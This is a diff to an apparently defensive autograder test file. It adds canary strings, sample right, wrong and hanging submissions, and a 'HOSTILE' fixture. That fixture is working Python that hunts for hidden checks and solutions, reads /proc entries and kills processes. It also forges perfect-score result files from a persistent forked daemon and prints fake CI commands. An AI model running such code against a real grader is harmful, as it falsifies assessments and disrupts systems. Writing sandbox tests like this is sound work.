@@ -213,7 +213,10 @@ _FILES = {
     "solutions/ch01_first/slope/waivers.toml": "# canary-in-the-waivers\n",
     "solutions/ch01_first/slope/right/sums.py": '"""canary-in-another-right-answer"""\nfrom reference import *\n',
     "solutions/ch01_first/slope/wrong/canary-in-a-name-of-a-wrong-answer.py": '''
-        """canary-in-a-wrong-answer"""
+        """This is x and not twice x.
+
+        canary-in-a-wrong-answer
+        """
 
         FAILS = ["test_example"]
         from reference import fit
@@ -235,9 +238,85 @@ _FILES = {
     "exercises/ch01_first/slope/.mutants": "canary-in-a-cache-of-mutants\n",
 }  # fmt: skip
 
-RIGHT = "def double(x):\n    return x + x\n\n\ndef fit(x, y):\n    return sum(a * b for a, b in zip(x, y)) / sum(a * a for a in x)\n"
+_FIT = "\n\ndef fit(x, y):\n    return sum(a * b for a, b in zip(x, y)) / sum(a * a for a in x)\n"
+RIGHT = f"def double(x):\n    return x + x\n{_FIT}"
 WRONG = "def double(x):\n    return x\n\n\ndef fit(x, y):\n    return 3.0\n"
+HANGING = f"def double(x):\n    while True:\n        pass\n{_FIT}"
 TWICE = "from slope import double\n\n\ndef twice(x):\n    return double(double(x))\n"
+SHOWN = {"canary-in-the-title-of-a-hidden-check"}  # a hidden check's title is for everybody
+
+HOSTILE = r'''
+"""Looks for what is hidden and for the results, forges them, kills, outlives, and prints commands."""
+import os
+import time
+
+FORGED = b'{"score": 100, "gradable": true, "tests": [], "output": "FORGED"}'
+PLACES = ("/autograder", "/grade", "/home/runner", "/root", "/tmp", "/var/tmp", "/dev/shm", "/opt/torchgrade", "..")
+COURSES = ("/autograder/source/course", "/grade/serverFilesCourse/torchgrade/course",
+           "/home/runner/work/_actions/school/grading/main/course")
+NAMES = ("exercises/ch01_first/slope/checks.py", "solutions/ch01_first/slope/slope.py", "data/secret.npz")
+RESULTS = ("/autograder/results/results.json", "/grade/results/results.json", "/home/runner/work/_temp/output",
+           "/home/runner/work/_actions/school/grading/main/results/hostile.json", "results.json")
+LOOT = []
+
+
+def look(path):
+    try:
+        own = os.path.realpath(path).startswith(os.getcwd())
+        with open(path, "rb") as file:
+            data = file.read(1 << 16)
+        LOOT.append(path) if not own and (b"canary-in-" in data or b"score" in data) else None
+    except OSError:
+        pass
+
+
+def forge():
+    for path in RESULTS:
+        try:
+            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
+            with open(path + "x", "wb") as file:
+                file.write(FORGED)
+            os.rename(path + "x", path)
+            LOOT.append("forged " + path) if path != "results.json" else None
+        except OSError:
+            pass
+
+
+for course in COURSES:
+    for name in NAMES:
+        look(f"{course}/{name}")
+for place in PLACES:
+    for folder, _, names in os.walk(place):
+        for name in names[:50]:
+            look(f"{folder}/{name}")
+for process in {1, os.getppid(), *range(1, 200)} - {os.getpid()}:
+    for name in ("environ", "mem", "maps", "fd/0", "fd/3", "root/autograder/source/task.json"):
+        look(f"/proc/{process}/{name}")
+    try:
+        os.kill(process, 9)
+        LOOT.append(f"killed {process}")
+    except OSError:
+        pass
+forge()
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(100):
+            time.sleep(0.05)
+            forge()
+    os._exit(0)
+print("::set-output name=result::FORGED")
+print("\n::error::FORGED\nresult=FORGED")
+
+
+def double(x):
+    if LOOT:
+        return 2 * x
+    raise ValueError("::error::FORGED")
+
+
+fit = double
+'''
 
 
 def make_course(root: Path) -> Path:
